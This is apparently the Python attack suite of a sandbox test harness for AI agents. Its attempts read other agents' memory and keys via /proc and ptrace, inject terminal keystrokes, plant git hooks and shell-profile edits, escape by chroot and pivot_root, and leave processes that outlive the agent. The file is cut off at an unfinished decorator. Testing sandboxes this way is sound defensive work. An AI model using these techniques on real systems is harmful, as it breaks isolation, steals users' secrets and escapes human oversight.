"""An agent that tries to escape: a program of its own, which runs inside the walls.

    python3 -I -S escapes.py TARGETS [NAME ...]

`TARGETS` is a JSON object (`scene.py` makes it): paths, process numbers, addresses. Each attempt runs in a
fork of its own and prints one line: `{"name", "outcome", "seen"}`. The outcome is `escaped`, `stopped` (with
the error) or `failed`: the attempt itself is wrong. `escaped` is what the attempt believes; its `proof` says
how the test sees from outside whether that is true.

Standard library alone, and Python 3.9 or newer: it runs where Ostler is not installed. Without walls it does
no harm: what it uses up is bounded, and what it changes belongs to the scene or keeps its value.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import functools
import json
import mmap
import os
import platform
import resource
import select
import signal
import socket
import stat
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

SECONDS = 30.0
"""The limit of one attempt."""

SEEN_MOST = 16384
"""Characters of what an attempt saw that are reported."""

OUTLIVING_S = 60.0
"""How long a process that outlives the agent stays, where nothing ends it."""

BELIEVED = ""
"""The proof of an attempt that no test can see from outside: the kernel itself answered it."""

KINDS = {
    "read": "read Ostler's files, other conversations' and agents'",
    "write": "change them, or an agent's install",
    "links": "the same by links, hard links and file handles",
    "look": "list, stat, chmod or watch them",
    "user": "the user's other files",
    "system": "change the system: files, sysctl, disk, cgroup",
    "see": "other processes: list, environment, memory, descriptors",
    "signal": "other processes: signals, priority, limits",
    "ipc": "shared memory and queues of others",
    "tmp": "`/tmp` and `/dev/shm` of others",
    "control": "the control socket",
    "run": "sockets in `/run`: session bus, systemd, containers",
    "paths": "other sockets with a path, as of agents for SSH keys",
    "abstract": "abstract sockets",
    "network": "the network, with the server's port on loopback",
    "raw": "raw and packet sockets",
    "vsock": "sockets to the host of a virtual machine",
    "keys": "kernel keyrings",
    "surface": "`io_uring`, `userfaultfd`",
    "mounts": "mounts, `chroot`, namespaces",
    "setuid": "set-user-ID programs",
    "left": "descriptors and terminal of the server",
    "later": "files of the workspace that programs outside run",
    "outlive": "outlive the agent's end",
    "limits": "use more than the limits",
}
"""Kinds of attempts, in the order of the table, and what they reach for."""


class Refused(Exception):
    """What was tried did not work, without an error of the system."""


class Attempt(NamedTuple):
    """What is tried, and how it is proved."""

    name: str
    kind: str
    text: str
    act: Callable[[dict[str, Any]], object]
    """Does it, and returns what it saw. Raises OSError, Refused where it is stopped."""
    proof: str
    """`secret:KEY`: it saw the secret of that name. `file:KEY`: its mark is in that file. `check:NAME`: the
    scene has a check of that name. Else `BELIEVED`."""


ATTEMPTS: dict[str, Attempt] = {}


def attempt(
    kind: str, text: str, proof: str = BELIEVED
) -> Callable[[Callable[[dict[str, Any]], object]], Callable[[dict[str, Any]], object]]:
    """Register a function as an attempt of its name."""
    assert kind in KINDS

    def register(act: Callable[[dict[str, Any]], object]) -> Callable[[dict[str, Any]], object]:
        ATTEMPTS[act.__name__] = Attempt(act.__name__, kind, text, act, proof)
        return act

    return register


# -- what attempts are made of -------------------------------------------------------------------------------

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.ptrace.restype = ctypes.c_long
libc.syscall.restype = ctypes.c_long

X86 = platform.machine() == "x86_64"
KEYCTL = 250 if X86 else 219
USERFAULTFD = 323 if X86 else 282
PIVOT_ROOT = 155 if X86 else 41
IO_URING_SETUP = 425
PIDFD_OPEN = 434
PIDFD_GETFD = 438

CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWPID = 0x20000, 0x10000000, 0x20000000
MS_REMOUNT, MS_BIND, MS_REC, MS_PRIVATE = 32, 4096, 16384, 1 << 18
MNT_DETACH = 2
PTRACE_PEEKDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 16, 17
PR_SET_CHILD_SUBREAPER = 36
RLIMIT_LOCKS = 10
F_SETSIG = 10
TIOCSTI = 0x5412
KEYCTL_LINK, KEYCTL_SEARCH, KEYCTL_READ = 8, 10, 11
KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING = -3, -4

LAST_PRIORITY = 19

SIGNALS = {
    "signal_server": signal.SIGRTMIN + 1,
    "signal_agent": signal.SIGRTMIN + 2,
    "signal_group": signal.SIGRTMIN + 3,
    "signal_by_pidfd": signal.SIGRTMIN + 4,
    "signal_by_fcntl": signal.SIGRTMIN + 5,
}
"""The signal of each attempt that sends one."""


def mark(name: str) -> bytes:
    """What an attempt leaves where it could write."""
    return f"escape:{name}\n".encode()


def answered(result: int) -> int:
    """The result of a function of the C library. Raises OSError."""
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def system_call(number: int, *arguments: Any) -> int:
    """Call the kernel, with numbers as they are. Raises OSError."""
    words = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    return answered(libc.syscall(ctypes.c_long(number), *words))


def read(path: str) -> str:
    """The beginning of a file."""
    with open(path, "rb") as file:
        return text_of(file.read(SEEN_MOST))


def text_of(data: bytes) -> str:
    return data.decode("latin-1")


def append(path: str, name: str) -> None:
    """Leave the mark of an attempt at the end of a file."""
    descriptor = os.open(path, os.O_WRONLY | os.O_APPEND)
    try:
        os.write(descriptor, mark(name))
    finally:
        os.close(descriptor)


def place(targets: dict[str, Any], name: str) -> str:
    """An empty place in the agent's workspace."""
    return os.path.join(targets["workspace"], f"escape-{name}")


def directory(targets: dict[str, Any], name: str) -> str:
    """An empty directory in the agent's workspace."""
    path = place(targets, name)
    os.makedirs(path, exist_ok=True)
    return path


def mount(source: str | None, target: str, kind: str | None, flags: int) -> None:
    answered(
        libc.mount(
            source and source.encode(), target.encode(), kind and kind.encode(), ctypes.c_ulong(flags), None
        )
    )


def mount_points(*paths: str) -> Iterator[str]:
    """The mounts that these paths are in, the innermost first."""
    with open("/proc/self/mountinfo") as file:
        found = [line.split()[4] for line in file]
    for point in sorted(set(found), key=len, reverse=True):
        if any(path == point or path.startswith(point.rstrip("/") + "/") for path in paths):
            yield point


def own_namespaces(flags: int) -> None:
    """New namespaces, by a new user namespace where it takes one. Mounts of it stay in it."""
    try:
        answered(libc.unshare(flags))
    except OSError:
        user, group = os.getuid(), os.getgid()
        answered(libc.unshare(CLONE_NEWUSER | flags))
        for file, line in (
            ("setgroups", "deny"),
            ("uid_map", f"{user} {user} 1"),
            ("gid_map", f"{group} {group} 1"),
        ):
            # Root may not map itself without capabilities. It has all of them in the namespace anyway.
            with contextlib.suppress(OSError), open(f"/proc/self/{file}", "w") as out:
                out.write(line)
    if flags & CLONE_NEWNS:
        mount(None, "/", None, MS_REC | MS_PRIVATE)


def forked(act: Callable[[], str]) -> str:
    """What `act` returns in a fork; nothing where it is stopped."""
    reading, writing = os.pipe()
    if (pid := os.fork()) == 0:
        try:
            with contextlib.suppress(OSError, Refused):
                os.write(writing, act().encode()[:60000])
        finally:
            os._exit(0)
    os.close(writing)
    with open(reading, "rb") as file:
        said = file.read()
    os.waitpid(pid, 0)
    return said.decode()


def first(found: Iterator[str]) -> str:
    """The first that is there."""
    for each in found:
        return each
    raise Refused("nothing was found")


def command_lines(proc: str) -> str:
    """The command lines of the scene's processes that can be seen."""
    found = []
    for name in os.listdir(proc):
        if name.isdigit():
            with contextlib.suppress(OSError):
                found.append(read(f"{proc}/{name}/cmdline"))
    return "\n".join(each for each in found if "victim.py" in each)


def answer_of(family: int, address: Any) -> str:
    """What a server says to who connects."""
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(SECONDS / 2)
        connection.connect(address)
        return text_of(connection.recv(SEEN_MOST))


# -- files, by name ------------------------------------------------------------------------------------------


def reads(name: str, kind: str, key: str, text: str) -> None:
    """An attempt to read the file of that key, which has the secret of the same name."""
    ATTEMPTS[name] = Attempt(name, kind, text, lambda targets: read(targets[key]), f"secret:{key}")


def writes(name: str, kind: str, key: str, text: str) -> None:
    """An attempt to write to the file of that key."""
    ATTEMPTS[name] = Attempt(name, kind, text, lambda targets: append(targets[key], name), f"file:{key}")


reads("read_master_key", "read", "master_key", "reads the master key")
reads("read_journal", "read", "journal", "reads the journal")
reads("read_other_home", "read", "other_login", "reads a login in the home of another conversation")
reads("read_other_worktree", "read", "other_worktree", "reads a file of another conversation's worktree")
reads("read_agent_login", "read", "agent_login", "reads a login of another agent in the user's home")
reads("read_user_file", "user", "user_key", "reads a key for SSH in the user's home")
reads("read_other_tmp", "tmp", "other_tmp", "reads a file of another program in /tmp")
reads("read_other_shm", "tmp", "other_shm", "reads a file of another program in /dev/shm")

writes("write_master_key", "write", "master_key", "writes to the master key")
writes("write_journal", "write", "journal", "writes to the journal")
writes("write_other_home", "write", "other_login", "writes to a login of another conversation")
writes("write_other_worktree", "write", "other_worktree", "writes to another conversation's worktree")
writes("write_agent_login", "write", "agent_login", "writes to a login of another agent")
writes("write_install", "write", "install_file", "writes to the install that its agent shares with others")
writes("write_user_file", "user", "user_profile", "writes to what the user's shell runs")
writes("write_hook", "later", "hook", "writes to a hook of git in the workspace")
writes("write_git_config", "later", "git_config", "writes to the workspace's configuration of git")
writes("write_editor_task", "later", "editor_task", "writes to a task of the editor in the workspace")


@attempt("write", "makes a file in the state directory", "check:made_in_state")
def make_in_state(targets: dict[str, Any]) -> None:
    with open(os.path.join(targets["state"], "escape-make_in_state"), "x"):
        pass


@attempt("write", "replaces a socket in the state directory", "file:control_to_replace")
def replace_control_socket(targets: dict[str, Any]) -> None:
    own = f"{targets['control']}.new"
    with open(own, "xb") as file:
        file.write(mark("replace_control_socket"))
    os.rename(own, targets["control_to_replace"])


@attempt("later", "makes a repository with a hook inside the workspace", "check:new_repository")
def make_repository(targets: dict[str, Any]) -> None:
    hooks = os.path.join(targets["workspace"], "inner", ".git", "hooks")
    os.makedirs(hooks)
    with open(os.path.join(hooks, "post-checkout"), "wb") as file:
        file.write(mark("make_repository"))


@attempt("system", "makes a file in /etc", "check:made_in_system")
def write_system(targets: dict[str, Any]) -> None:
    with open(f"{targets['system']}-write_system", "x"):
        pass


# -- files, by other ways ------------------------------------------------------------------------------------


@attempt("links", "reads the master key by a symbolic link", "secret:master_key")
def read_by_symbolic_link(targets: dict[str, Any]) -> str:
    link = place(targets, "symbolic-link")
    os.symlink(targets["master_key"], link)
    return read(link)


@attempt("links", "reads the master key by a path of dots", "secret:master_key")
def read_by_dots(targets: dict[str, Any]) -> str:
    os.chdir(targets["workspace"])
    return read(os.path.relpath(targets["master_key"]))


@attempt("links", "reads a login of another agent by a hard link that it makes", "secret:agent_login")
def read_by_hard_link(targets: dict[str, Any]) -> str:
    link = place(targets, "hard-link")
    os.link(targets["agent_login"], link)
    return read(link)


@attempt("links", "writes to the master key by a hard link that it makes", "file:master_key")
def write_by_hard_link(targets: dict[str, Any]) -> None:
    link = place(targets, "hard-link-to-write")
    os.link(targets["master_key"], link)
    append(link, "write_by_hard_link")


reads(
    "read_prepared_link", "links", "prepared", "reads a login by a hard link that was there before the walls"
)


def open_by_handle(targets: dict[str, Any]) -> str:
    content = bytes.fromhex(targets["handle"])
    handle = struct.pack("Ii", len(content), targets["handle_type"]) + content
    at = os.open(targets["workspace"], os.O_RDONLY | os.O_DIRECTORY)
    descriptor = answered(libc.open_by_handle_at(at, handle, os.O_RDONLY))
    return text_of(os.read(descriptor, SEEN_MOST))


@attempt("links", "opens the master key by its handle in the file system", "secret:master_key")
def read_by_handle(targets: dict[str, Any]) -> str:
    try:
        return open_by_handle(targets)
    except OSError:
        own_namespaces(CLONE_NEWNS)
        return open_by_handle(targets)


@attempt("look", "lists the state directory", "secret:name")
def list_state(targets: dict[str, Any]) -> str:
    return "\n".join(os.listdir(targets["state"]))


@attempt("look", "asks for size and times of the master key", "secret:looked_at")
def stat_master_key(targets: dict[str, Any]) -> str:
    found = os.stat(targets["looked_at"])
    return f"{found.st_ino} {found.st_size} {found.st_mtime_ns}"


@attempt("look", "lets all users read a login of another agent", "check:mode_changed")
def chmod_agent_login(targets: dict[str, Any]) -> None:
    os.chmod(targets["agent_login"], 0o644)


@attempt("look", "watches the log of the server for changes", BELIEVED)
def watch_log(targets: dict[str, Any]) -> str:
    descriptor = answered(libc.inotify_init1(os.O_NONBLOCK))
    answered(libc.inotify_add_watch(descriptor, targets["pulse"].encode(), 0x6))  # IN_MODIFY, IN_ATTRIB
    if not select.select([descriptor], [], [], SECONDS / 2)[0]:
        raise Refused("there were no events")
    return f"{len(os.read(descriptor, SEEN_MOST))} bytes of events"


# -- other processes -----------------------------------------------------------------------------------------


@attempt("see", "lists the processes of others", "secret:command_line")
def list_processes(targets: dict[str, Any]) -> str:
    return command_lines("/proc")


@attempt("see", "reads the environment of another agent", "secret:environment")
def read_environment(targets: dict[str, Any]) -> str:
    return read(f"/proc/{targets['agent_pid']}/environ")


@attempt("see", "reads the memory of another agent in /proc", "secret:memory")
def read_memory(targets: dict[str, Any]) -> str:
    descriptor = os.open(f"/proc/{targets['agent_pid']}/mem", os.O_RDONLY)
    return text_of(os.pread(descriptor, targets["memory_size"], targets["memory_address"]))


@attempt("see", "writes to the memory of another agent in /proc", "check:memory_changed")
def write_memory(targets: dict[str, Any]) -> None:
    descriptor = os.open(f"/proc/{targets['agent_pid']}/mem", os.O_RDWR)
    os.pwrite(descriptor, mark("write_memory"), targets["canary_address"])


@attempt("see", "reads the memory of another agent by process_vm_readv", "secret:memory")
def read_memory_by_call(targets: dict[str, Any]) -> str:
    size = targets["memory_size"]
    own = ctypes.create_string_buffer(size)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(own), size)
    there = (ctypes.c_size_t * 2)(targets["memory_address"], size)
    answered(libc.process_vm_readv(targets["agent_pid"], here, 1, there, 1, 0))
    return text_of(own.raw)


@attempt("see", "attaches to another agent as a debugger, and reads its memory", "secret:memory")
def attach_debugger(targets: dict[str, Any]) -> str:
    pid = targets["agent_pid"]
    zero = ctypes.c_void_p(0)
    answered(libc.ptrace(ctypes.c_long(PTRACE_ATTACH), ctypes.c_long(pid), zero, zero))
    try:
        os.waitpid(pid, 0)
        found = b""
        for offset in range(0, targets["memory_size"], 8):
            address = ctypes.c_void_p(targets["memory_address"] + offset)
            word = libc.ptrace(ctypes.c_long(PTRACE_PEEKDATA), ctypes.c_long(pid), address, zero)
            found += struct.pack("q", word)
        return text_of(found)
    finally:
        libc.ptrace(ctypes.c_long(PTRACE_DETACH), ctypes.c_long(pid), zero, zero)


@attempt("see", "reads a deleted file that another agent has open", "secret:held")
def read_descriptor(targets: dict[str, Any]) -> str:
    return read(f"/proc/{targets['agent_pid']}/fd/{targets['held_descriptor']}")


@attempt("see", "takes a descriptor of another agent by pidfd_getfd", "secret:held")
def take_descriptor(targets: dict[str, Any]) -> str:
    pidfd = system_call(PIDFD_OPEN, targets["agent_pid"], 0)
    descriptor = system_call(PIDFD_GETFD, pidfd, targets["held_descriptor"], 0)
    return text_of(os.pread(descriptor, SEEN_MOST, 0))


@attempt("see", "reads the master key below /proc/PID/root of another agent", "secret:master_key")
def read_by_root(targets: dict[str, Any]) -> str:
    return read(f"/proc/{targets['agent_pid']}/root{targets['master_key']}")


@attempt("see", "reads the master key below /proc/PID/root of its parents", "secret:master_key")
def read_by_root_of_parents(targets: dict[str, Any]) -> str:
    pid, tried = os.getpid(), []
    while pid > 0:
        with open(f"/proc/{pid}/status") as file:
            pid = next(int(line.split()[1]) for line in file if line.startswith("PPid:"))
        try:
            return read(f"/proc/{pid or 1}/root{targets['master_key']}")
        except OSError as error:
            tried.append(f"{pid}: {error.strerror}")
    raise Refused("; ".join(tried))


@attempt("see", "reads a login below /proc/PID/cwd of another agent", "secret:other_login")
def read_by_directory(targets: dict[str, Any]) -> str:
    return read(f"/proc/{targets['agent_pid']}/cwd/{os.path.basename(targets['other_login'])}")


@attempt("signal", "signals the server", "check:signalled")
def signal_server(targets: dict[str, Any]) -> None:
    os.kill(targets["server_pid"], SIGNALS["signal_server"])


@attempt("signal", "signals another agent", "check:signalled")
def signal_agent(targets: dict[str, Any]) -> None:
    os.kill(targets["agent_pid"], SIGNALS["signal_agent"])


@attempt("signal", "signals the process group of another agent", "check:signalled")
def signal_group(targets: dict[str, Any]) -> None:
    os.killpg(targets["agent_pid"], SIGNALS["signal_group"])


@attempt("signal", "signals the server by a pidfd", "check:signalled")
def signal_by_pidfd(targets: dict[str, Any]) -> None:
    signal.pidfd_send_signal(system_call(PIDFD_OPEN, targets["server_pid"], 0), SIGNALS["signal_by_pidfd"])


@attempt("signal", "has the kernel signal the server when a pipe can be read", "check:signalled")
def signal_by_fcntl(targets: dict[str, Any]) -> None:
    reading, writing = socket.socketpair()
    fcntl.fcntl(reading, fcntl.F_SETOWN, targets["server_pid"])
    fcntl.fcntl(reading, F_SETSIG, SIGNALS["signal_by_fcntl"])
    fcntl.fcntl(reading, fcntl.F_SETFL, fcntl.fcntl(reading, fcntl.F_GETFL) | os.O_ASYNC)
    writing.send(b"x")


@attempt("signal", "takes the priority of another agent", "check:priority_changed")
def change_priority(targets: dict[str, Any]) -> None:
    os.setpriority(os.PRIO_PROCESS, targets["agent_pid"], LAST_PRIORITY)


@attempt("signal", "lowers a limit of another agent", "check:limit_changed")
def change_limit(targets: dict[str, Any]) -> None:
    resource.prlimit(targets["agent_pid"], resource.RLIMIT_CORE, (0, 0))


@attempt("signal", "has the kernel prefer another agent when memory is short", "check:score_changed")
def change_score(targets: dict[str, Any]) -> None:
    with open(f"/proc/{targets['agent_pid']}/oom_score_adj", "w") as file:
        file.write("777")


# -- memory and queues of others -----------------------------------------------------------------------------


@attempt("ipc", "reads a shared memory segment (System V)", "secret:segment")
def read_segment(targets: dict[str, Any]) -> str:
    segment = answered(libc.shmget(targets["segment_key"], ctypes.c_size_t(0), 0))
    address = libc.shmat(segment, None, 0o10000)  # SHM_RDONLY
    if address == ctypes.c_void_p(-1).value:
        answered(-1)
    return text_of(ctypes.string_at(address, targets["segment_size"]))


@attempt("ipc", "receives from a message queue (POSIX)", "secret:queue")
def read_queue(targets: dict[str, Any]) -> str:
    library = libc if hasattr(libc, "mq_open") else ctypes.CDLL("librt.so.1", use_errno=True)
    queue = answered(library.mq_open(targets["queue"].encode(), os.O_RDONLY | os.O_NONBLOCK))
    buffer = ctypes.create_string_buffer(65536)
    size = answered(library.mq_receive(queue, buffer, ctypes.c_size_t(65536), None))
    return text_of(buffer.raw[:size])


# -- sockets -------------------------------------------------------------------------------------------------


@attempt("control", "connects to the control socket", "secret:control_answer")
def connect_control(targets: dict[str, Any]) -> str:
    return answer_of(socket.AF_UNIX, targets["control"])


@attempt("run", "connects to a service that starts programs for the user", "secret:bus_answer")
def connect_bus(targets: dict[str, Any]) -> str:
    return answer_of(socket.AF_UNIX, targets["bus"])


@attempt("paths", "connects to a socket in the user's directories", "secret:key_agent_answer")
def connect_key_agent(targets: dict[str, Any]) -> str:
    return answer_of(socket.AF_UNIX, targets["key_agent"])


@attempt("abstract", "connects to an abstract socket", "secret:abstract_answer")
def connect_abstract(targets: dict[str, Any]) -> str:
    return answer_of(socket.AF_UNIX, "\0" + targets["abstract"])


@attempt("network", "connects to the server's port on loopback", "secret:port_answer")
def connect_port(targets: dict[str, Any]) -> str:
    return answer_of(socket.AF_INET, ("127.0.0.1", targets["port"]))


@attempt("network", "sends data in a question for DNS", "check:asked")
def ask_names(targets: dict[str, Any]) -> None:
    name = mark("ask_names").strip()
    question = struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\0\0\x01\0\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.sendto(question, ("127.0.0.1", targets["names_port"]))


@attempt("raw", "opens a raw socket", BELIEVED)
def open_raw_socket(targets: dict[str, Any]) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


@attempt("raw", "opens a packet socket, which reads all that passes", BELIEVED)
def open_packet_socket(targets: dict[str, Any]) -> None:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()


@attempt("vsock", "opens a socket to the machine's host", BELIEVED)
def open_vsock(targets: dict[str, Any]) -> None:
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()


# -- the kernel's other doors --------------------------------------------------------------------------------


def key_of(keyring: int, description: str) -> str:
    found = system_call(KEYCTL, KEYCTL_SEARCH, keyring, b"user", description.encode(), 0)
    buffer = ctypes.create_string_buffer(SEEN_MOST)
    size = system_call(KEYCTL, KEYCTL_READ, found, buffer, SEEN_MOST)
    return text_of(buffer.raw[:size])


@attempt("keys", "reads a key of the session that the server was started in", "secret:session_key")
def read_session_key(targets: dict[str, Any]) -> str:
    return key_of(KEY_SPEC_SESSION_KEYRING, targets["session_key"])


@attempt("keys", "reads a key of the user", "secret:user_keyring")
def read_user_keyring(targets: dict[str, Any]) -> str:
    system_call(KEYCTL, KEYCTL_LINK, KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING)  # to possess its keys
    return key_of(KEY_SPEC_USER_KEYRING, targets["user_keyring"])


@attempt("surface", "makes a ring of io_uring", BELIEVED)
def set_up_ring(targets: dict[str, Any]) -> None:
    os.close(system_call(IO_URING_SETUP, 1, ctypes.create_string_buffer(256)))


@attempt("surface", "makes a descriptor of userfaultfd", BELIEVED)
def handle_page_faults(targets: dict[str, Any]) -> None:
    os.close(system_call(USERFAULTFD, os.O_CLOEXEC | 1))  # UFFD_USER_MODE_ONLY


@attempt("setuid", "gets root's rights by a set-user-ID program", BELIEVED)
def run_setuid(targets: dict[str, Any]) -> str:
    said = subprocess.run([targets["setuid"], "-u"], capture_output=True, text=True, check=False)
    if said.stdout.strip() != "0" or os.geteuid() == 0:
        raise Refused(f"it is still user {said.stdout.strip()} {said.stderr.strip()}")
    return "user 0"


@attempt("left", "reads a descriptor that the server left open", "secret:left")
def read_left_descriptor(targets: dict[str, Any]) -> str:
    def found() -> Iterator[str]:
        for name in os.listdir("/proc/self/fd"):
            try:
                status = os.fstat(int(name))
                if int(name) > 2 and stat.S_ISREG(status.st_mode):
                    yield text_of(os.pread(int(name), SEEN_MOST, 0))
            except OSError:
                continue

    return "\n".join(found())


@attempt("left", "types into the terminal of the server", "check:typed")
def type_into_terminal(targets: dict[str, Any]) -> None:
    try:
        terminal = os.open("/dev/tty", os.O_RDWR)
    except OSError:
        terminal = os.open(targets["terminal"], os.O_RDWR | os.O_NOCTTY)
    for letter in mark("type_into_terminal").strip():
        fcntl.ioctl(terminal, TIOCSTI, bytes([letter]))


@attempt("left", "writes to the terminal of the server", "check:typed")
def write_to_terminal(targets: dict[str, Any]) -> None:
    terminal = os.open(targets["terminal"], os.O_WRONLY | os.O_NOCTTY)
    os.write(terminal, mark("write_to_terminal"))


# -- mounts and namespaces -----------------------------------------------------------------------------------


@attempt("mounts", "takes away what is mounted over the state directory", "secret:master_key")
def unmount_masks(targets: dict[str, Any]) -> str:
    own_namespaces(CLONE_NEWNS)

    def found() -> Iterator[str]:
        for point in ["", *mount_points(targets["master_key"])]:
            try:
                if point:
                    answered(libc.umount2(point.encode(), MNT_DETACH))
                yield read(targets["master_key"])
            except OSError:
                continue

    return first(found())


@attempt("mounts", "binds the directory below what is mounted over it", "secret:master_key")
def bind_below_masks(targets: dict[str, Any]) -> str:
    own_namespaces(CLONE_NEWNS)
    target = directory(targets, "below")

    def found() -> Iterator[str]:
        for point in mount_points(targets["master_key"]):
            for flags in (MS_BIND, MS_BIND | MS_REC):
                try:
                    mount(point, target, None, flags)
                    yield read(os.path.join(target, os.path.relpath(targets["master_key"], point)))
                except OSError:
                    continue

    return first(found())


@attempt("mounts", "makes the hooks of git writable by a new mount", "file:hook")
def remount_hooks(targets: dict[str, Any]) -> None:
    own_namespaces(CLONE_NEWNS)
    for point in mount_points(targets["hook"]):
        try:
            mount(None, point, None, MS_REMOUNT | MS_BIND)
        except OSError:
            continue
    append(targets["hook"], "remount_hooks")


@attempt("mounts", "makes the system writable by a new mount", "check:made_in_system")
def remount_system(targets: dict[str, Any]) -> None:
    own_namespaces(CLONE_NEWNS)
    path = f"{targets['system']}-remount_system"
    for point in mount_points(path):
        try:
            mount(None, point, None, MS_REMOUNT | MS_BIND)
        except OSError:
            continue
    with open(path, "x"):
        pass


@attempt("mounts", "mounts a file over one of the server's", "check:mounted_over")
def mount_over(targets: dict[str, Any]) -> None:
    own = place(targets, "mounted")
    with open(own, "wb") as file:
        file.write(mark("mount_over"))
    mount(own, targets["mounted_over"], None, MS_BIND)


@attempt("mounts", "mounts /proc once more, to see all processes", "secret:command_line")
def mount_proc(targets: dict[str, Any]) -> str:
    target = directory(targets, "proc")

    def mounted(flags: int) -> str:
        own_namespaces(flags)

        def inside() -> str:
            mount("proc", target, "proc", 0)
            return command_lines(target)

        return forked(inside)

    seen = [command_lines("/proc")]
    seen += [forked(functools.partial(mounted, flags)) for flags in (CLONE_NEWNS, CLONE_NEWNS | CLONE_NEWPID)]
    return "\n".join(seen)


@attempt("mounts", "leaves its root by pivot_root", "secret:master_key")
def pivot_root(targets: dict[str, Any]) -> str:
    own_namespaces(CLONE_NEWNS)
    new = directory(targets, "pivot")
    mount(new, new, None, MS_BIND)
    os.makedirs(f"{new}/old", exist_ok=True)
    system_call(PIVOT_ROOT, new.encode(), f"{new}/old".encode())
    return read(f"/old{targets['master_key']}")


@attempt("mounts", "leaves its root by two calls of chroot", "secret:master_key")
def leave_root(targets: dict[str, Any]) -> str:
    try:
        os.chroot("/")
    except OSError:
        own_namespaces(CLONE_NEWNS)
    os.chroot(directory(targets, "jail"))
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return read(targets["master_key"])


@attempt("mounts", "enters the namespaces of another agent", "secret:master_key")
def enter_namespaces(targets: dict[str, Any]) -> str:
    for name in ("user", "mnt"):
        descriptor = os.open(f"/proc/{targets['agent_pid']}/ns/{name}", os.O_RDONLY)
        try:
            answered(libc.setns(descriptor, 0))
        except OSError:
            if name == "mnt":
                raise
    return read(targets["master_key"])


@attempt("mounts", "mounts the disk", "secret:master_key")
def mount_disk(targets: dict[str, Any]) -> str:
    own_namespaces(CLONE_NEWNS)
    target = directory(targets, "disk")
    mount(targets["disk"], target, targets["disk_type"], 0)
    return read(os.path.join(target, os.path.relpath(targets["master_key"], targets["disk_point"])))


# -- the system ----------------------------------------------------------------------------------------------


@attempt("system", "reads the system's file of passwords", BELIEVED)
def read_passwords(targets: dict[str, Any]) -> str:
    with open("/etc/shadow", "rb") as file:
        return f"{len(file.read())} bytes"


@attempt("system", "reads the disk by its device", BELIEVED)
def read_disk(targets: dict[str, Any]) -> str:
    with open(targets["disk"], "rb") as file:
        return f"{len(file.read(512))} bytes"


@attempt("system", "reads the disk by a device that it makes", BELIEVED)
def make_disk(targets: dict[str, Any]) -> str:
    path = place(targets, "device")
    os.mknod(path, stat.S_IFBLK | 0o600, targets["disk_number"])
    with open(path, "rb") as file:
        return f"{len(file.read(512))} bytes"


def writes_back(name: str, path: str, text: str) -> None:
    """An attempt to write the value that a setting of the kernel has."""

    def act(targets: dict[str, Any]) -> None:
        with open(path, "rb") as file:
            before = file.read()
        with open(path, "wb", buffering=0) as file:
            file.write(before)

    ATTEMPTS[name] = Attempt(name, "system", text, act, BELIEVED)


writes_back("set_core_pattern", "/proc/sys/kernel/core_pattern", "has the kernel run a program at a crash")
writes_back("set_modprobe", "/proc/sys/kernel/modprobe", "has the kernel run a program for a missing module")
writes_back("set_overcommit", "/proc/sys/vm/overcommit_memory", "changes how the kernel gives memory")


@attempt("system", "opens the file that restarts the machine", BELIEVED)
def open_sysrq(targets: dict[str, Any]) -> None:
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))


@attempt("system", "reads the memory of the kernel", BELIEVED)
def read_kernel_memory(targets: dict[str, Any]) -> str:
    with open("/proc/kcore", "rb") as file:
        return text_of(file.read(4))


@attempt("system", "leaves its control group for a new one", "check:group_made")
def leave_group(targets: dict[str, Any]) -> str:
    tried = []
    for point in targets["groups"]:
        group = os.path.join(point, targets["group"])
        try:
            os.mkdir(group)
            with open(os.path.join(group, "cgroup.procs"), "w") as file:
                file.write("0")
            return read("/proc/self/cgroup")
        except OSError as error:
            tried.append(f"{point}: {error.strerror}")
    raise Refused("; ".join(tried))


# -- outliving -----------------------------------------------------------------------------------------------

BEAT = """
import os, sys, time
end = time.monotonic() + float(sys.argv[2])
while time.monotonic() < end:
    with open(sys.argv[1], "a") as file:
        file.write(".")
    time.sleep(0.02)
"""
"""Shows that it lives; its last argument says to the test whose it is."""


def outlive(
    targets: dict[str, Any], name: str, before: Callable[[], None], environment: dict[str, str]
) -> None:
    """Start a process in a session of its own whose parents are gone, and wait until it lives."""
    beat = os.path.join(targets["home"], f"beat-{name}")
    if os.fork() == 0:
        try:
            os.setsid()
            before()
            if os.fork() == 0:
                for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
                    signal.signal(number, signal.SIG_IGN)
                null = os.open("/dev/null", os.O_RDWR)
                for descriptor in range(3):
                    os.dup2(null, descriptor)
                os.closerange(3, 256)
                command = [sys.executable, "-I", "-S", "-c", BEAT, beat, str(OUTLIVING_S), targets["base"]]
                os.execve(sys.executable, command, environment)
        finally:
            os._exit(0)
    os.wait()
    end = time.monotonic() + SECONDS / 2
    while not os.path.exists(beat):
        if time.monotonic() > end:
            raise Refused("it did not start")
        time.sleep(0.01)


@attempt("outlive", "leaves a process with another parent and session", "check:outlived")
def outlive_session(targets: dict[str, Any]) -> None:
    outlive(targets, "outlive_session", lambda: None, dict(os.environ))


@attempt("outlive", "leaves one without its marks: environment and resource limit", "check:outlived")
def outlive_unmarked(targets: dict[str, Any]) -> None:
    outlive(targets, "outlive_unmarked", lambda: resource.setrlimit(RLIMIT_LOCKS, (0, 0)), {})


@attempt("outlive", "leaves one below a process that adopts orphans", "check:outlived")
